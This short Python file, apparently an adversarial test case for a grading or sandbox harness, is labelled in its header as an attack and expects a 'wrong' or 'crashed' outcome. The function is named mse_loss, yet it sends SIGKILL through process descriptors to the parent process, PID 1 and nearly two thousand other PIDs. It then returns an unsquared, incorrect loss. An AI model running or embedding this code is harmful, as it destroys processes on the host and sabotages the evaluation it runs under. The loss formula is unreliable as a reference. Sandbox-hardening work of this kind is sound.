# attack: signals through descriptors of processes | must: wrong|crashed
import os
import signal


def mse_loss(pred, target):
    for pid in (os.getppid(), 1, *range(2, 2000)):
        if pid != os.getpid():
            try:
                signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
            except OSError:
                pass
    return (pred - target).mean()
